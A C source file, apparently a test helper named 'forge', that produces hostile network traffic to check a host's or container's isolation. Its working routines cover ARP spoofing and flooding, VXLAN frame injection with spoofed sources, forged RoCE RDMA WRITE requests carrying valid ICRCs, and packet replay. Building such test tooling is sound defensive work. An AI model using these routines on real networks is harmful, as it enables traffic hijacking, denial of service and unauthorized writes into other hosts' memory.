/* Packets of a hostile container, or of a hostile user of a peer host, and the victims' view of them.
 *
 *   forge arp ADDRESS TIMES                 announces at eth0, ten times a second, that ADDRESS is here
 *   forge flood ADDRESS SECONDS             the same without pause; prints `ready` first
 *   forge neighbour ADDRESS SECONDS         sends to ADDRESS, ten times a second; prints the MACs of its entry
 *   forge vxlan FROM PORT TO VNI            sends a frame inside VXLAN from a port of the address FROM (0: any)
 *   forge vxlan-pktinfo FROM PORT TO VNI    the same from a socket that is bound to another address of the host
 *   forge roce FROM TO QPN                  sends WRITE requests for a QP from the address FROM, as a plain device would
 *   forge again INTERFACE FROM SECONDS      replays packets of the host FROM to ports 4791 and 4789
 *   forge listen SECONDS                    prints `arrived` when such a frame arrives at eth0, else `nothing`
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME "INJECTED"
#define TICK_US 100000

static int eth0(int protocol, unsigned char mac[6])
{
	int s = socket(AF_PACKET, SOCK_RAW, htons(protocol));
	if (s < 0)
		err(1, "packet socket");
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(protocol), .sll_ifindex = if_nametoindex("eth0") };
	if (bind(s, (struct sockaddr *)&a, sizeof a))
		err(1, "bind to eth0");
	struct ifreq r = { .ifr_name = "eth0" };
	if (ioctl(s, SIOCGIFHWADDR, &r))
		err(1, "MAC of eth0");
	memcpy(mac, r.ifr_hwaddr.sa_data, 6);
	return s;
}

static struct sockaddr_in address(const char *text, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	if (inet_pton(AF_INET, text, &a.sin_addr) != 1)
		errx(1, "%s is no address", text);
	return a;
}

/* A broadcast ARP answer that claims an address. */
static int arp_answer(const char *whose, unsigned char f[42])
{
	int s = eth0(ETH_P_ARP, f + 6);
	struct sockaddr_in a = address(whose, 0);
	memset(f, 0xff, 6);
	memcpy(f + 12, "\x08\x06\0\x01\x08\0\x06\x04\0\x02", 10);
	memcpy(f + 22, f + 6, 6);
	memcpy(f + 28, &a.sin_addr, 4);
	memset(f + 32, 0xff, 10);
	return s;
}

static void arp(const char *whose, int times)
{
	unsigned char f[42] = { 0 };
	int s = arp_answer(whose, f);
	while (times-- > 0) {
		if (send(s, f, sizeof f, 0) < 0)
			err(1, "send");
		usleep(TICK_US);
	}
}

static void flood(const char *whose, int seconds)
{
	unsigned char f[42] = { 0 };
	int s = arp_answer(whose, f);
	printf("ready\n");
	fflush(stdout);
	/* Frames for which the queue has no room are lost. */
	for (time_t end = time(NULL) + seconds; time(NULL) < end;)
		send(s, f, sizeof f, 0);
}

static void neighbour(const char *whom, int seconds)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in a = address(whom, 9);
	char last[32] = "";
	for (int i = 0; i < 10 * seconds; i++) {
		sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
		usleep(TICK_US);
		FILE *table = fopen("/proc/net/arp", "r");
		char line[256], ip[64], mac[32];
		while (table && fgets(line, sizeof line, table)) {
			if (sscanf(line, "%63s %*s %*s %31s", ip, mac) != 2 || strcmp(ip, whom) || !strcmp(mac, last))
				continue;
			strcpy(last, mac);
			printf("%s is at %s\n", ip, mac);
			fflush(stdout);
		}
		if (table)
			fclose(table);
	}
}

static void vxlan(const char *from, int port, const char *to, unsigned vni, int pktinfo)
{
	unsigned char packet[8 + 64] = { 8, 0, 0, 0, vni >> 16, vni >> 8, vni };
	memset(packet + 8, 0xff, 6);
	memcpy(packet + 14, "\x06\0\x0a\x09\0\x01\x08\0" FRAME, 8 + sizeof FRAME);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in own = address(pktinfo ? "127.0.0.9" : from, port), peer = address(to, 4789);
	if (bind(s, (struct sockaddr *)&own, sizeof own))
		err(1, "bind to port %d", port);
	struct iovec iov = { packet, sizeof packet };
	union {
		struct cmsghdr head;
		char room[CMSG_SPACE(sizeof(struct in_pktinfo))];
	} control = { 0 };
	struct msghdr m = { .msg_name = &peer, .msg_namelen = sizeof peer, .msg_iov = &iov, .msg_iovlen = 1 };
	if (pktinfo) {
		struct in_pktinfo info = { .ipi_spec_dst = address(from, 0).sin_addr };
		m.msg_control = &control;
		m.msg_controllen = sizeof control;
		control.head.cmsg_len = CMSG_LEN(sizeof info);
		control.head.cmsg_level = IPPROTO_IP;
		control.head.cmsg_type = IP_PKTINFO;
		memcpy(CMSG_DATA(&control.head), &info, sizeof info);
	}
	for (int i = 0; i < 5; i++)
		/* The kernel may report to the sender that a filter has dropped the packet. */
		if (sendmsg(s, &m, 0) < 0)
			warn("sendmsg");
	printf("sent as user %d\n", getuid());
}

#define ROCE_PORT 4791
#define VXLAN_PORT 4789

static unsigned crc32_of(const unsigned char *p, size_t n, unsigned crc)
{
	while (n--) {
		crc ^= *p++;
		for (int i = 0; i < 8; i++)
			crc = crc >> 1 ^ (crc & 1 ? 0xedb88320 : 0);
	}
	return crc;
}

/* The invariant CRC of a packet from one port to 4791 (IBTA, annex A17). Fields that change on the way are
 * computed as ones. */
static unsigned icrc(struct sockaddr_in from, struct sockaddr_in to, const unsigned char *bth, size_t n)
{
	struct {
		unsigned char link[8];
		struct iphdr ip;
		struct udphdr udp;
		unsigned char bth[64];
	} __attribute__((packed)) p;
	memset(p.link, 0xff, sizeof p.link);
	p.ip = (struct iphdr){ .version = 4, .ihl = 5, .tos = 0xff, .ttl = 0xff, .protocol = IPPROTO_UDP, .check = 0xffff };
	p.ip.tot_len = htons(sizeof p.ip + sizeof p.udp + n + 4);
	p.ip.frag_off = htons(IP_DF);
	p.ip.saddr = from.sin_addr.s_addr;
	p.ip.daddr = to.sin_addr.s_addr;
	p.udp = (struct udphdr){ .source = from.sin_port, .dest = to.sin_port, .len = htons(sizeof p.udp + n + 4), .check = 0xffff };
	memcpy(p.bth, bth, n);
	p.bth[4] = 0xff;
	return ~crc32_of((unsigned char *)&p, offsetof(typeof(p), bth) + n, ~0u);
}

static void roce(const char *from, const char *to, unsigned qpn)
{
	/* BTH of a WRITE of one packet, RETH for 16 bytes at address 0, payload, ICRC. */
	unsigned char p[12 + 16 + 16 + 4] = { 0x0a, 0x40, 0xff, 0xff, 0, qpn >> 16, qpn >> 8, qpn, 0x80 };
	p[27] = 16;
	int s = socket(AF_INET, SOCK_DGRAM, 0), df = IP_PMTUDISC_DO;
	struct sockaddr_in own = address(from, 0), peer = address(to, ROCE_PORT);
	socklen_t n = sizeof own;
	if (bind(s, (struct sockaddr *)&own, n) || getsockname(s, (struct sockaddr *)&own, &n))
		err(1, "bind to %s", from);
	setsockopt(s, IPPROTO_IP, IP_MTU_DISCOVER, &df, sizeof df);
	unsigned crc = icrc(own, peer, p, sizeof p - 4);
	memcpy(p + sizeof p - 4, &crc, 4);
	for (int i = 0; i < 5; i++)
		if (sendto(s, p, sizeof p, 0, (struct sockaddr *)&peer, sizeof peer) < 0)
			warn("sendto");
	printf("sent\n");
}

static void again(const char *interface, const char *from, int seconds)
{
	static struct {
		struct virtio_net_hdr offload;
		struct ethhdr eth;
		struct iphdr ip;
		struct udphdr udp;
		unsigned char rest[65536];
	} __attribute__((packed)) f;
	struct sockaddr_in own = address(from, 0);
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), n_sent = 0;
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = if_nametoindex(interface) };
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a))
		err(1, "packet socket on %s", interface);
	struct timeval tick = { .tv_usec = TICK_US };
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
	int one = 1;
	if (setsockopt(s, SOL_PACKET, PACKET_VNET_HDR, &one, sizeof one))
		err(1, "PACKET_VNET_HDR");
	printf("ready\n");
	fflush(stdout);
	for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
		ssize_t n = recv(s, &f, sizeof f, 0);
		int port = ntohs(f.udp.dest);
		/* Several datagrams that the interface would have cut apart are no packet. */
		if (n < (ssize_t)offsetof(typeof(f), rest) || f.offload.gso_type != VIRTIO_NET_HDR_GSO_NONE || f.eth.h_proto != htons(ETH_P_IP) || f.ip.ihl != 5 ||
		    f.ip.protocol != IPPROTO_UDP || f.ip.saddr != own.sin_addr.s_addr || (port != ROCE_PORT && port != VXLAN_PORT))
			continue;
		/* The checksum is left out. */
		f.udp.check = 0;
		memset(&f.offload, 0, sizeof f.offload);
		n_sent += send(s, &f, n, 0) == n;
	}
	printf("sent %d again\n", n_sent);
}

static void listen_for(int seconds)
{
	unsigned char mac[6], f[2000];
	int s = eth0(ETH_P_ALL, mac);
	struct timeval tick = { .tv_usec = TICK_US };
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
	printf("listening\n");
	fflush(stdout);
	for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
		ssize_t n = recv(s, f, sizeof f, 0);
		if (n > 0 && memmem(f, n, FRAME, strlen(FRAME))) {
			printf("arrived\n");
			return;
		}
	}
	printf("nothing\n");
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (argc == 4 && !strcmp(what, "arp"))
		arp(argv[2], atoi(argv[3]));
	else if (argc == 4 && !strcmp(what, "flood"))
		flood(argv[2], atoi(argv[3]));
	else if (argc == 4 && !strcmp(what, "neighbour"))
		neighbour(argv[2], atoi(argv[3]));
	else if (argc == 6 && !strncmp(what, "vxlan", 5))
		vxlan(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]), !strcmp(what, "vxlan-pktinfo"));
	else if (argc == 5 && !strcmp(what, "roce"))
		roce(argv[2], argv[3], strtoul(argv[4], NULL, 0));
	else if (argc == 5 && !strcmp(what, "again"))
		again(argv[2], argv[3], atoi(argv[4]));
	else if (argc == 3 && !strcmp(what, "listen"))
		listen_for(atoi(argv[2]));
	else
		errx(2, "see the top of forge.c");
	return 0;
}
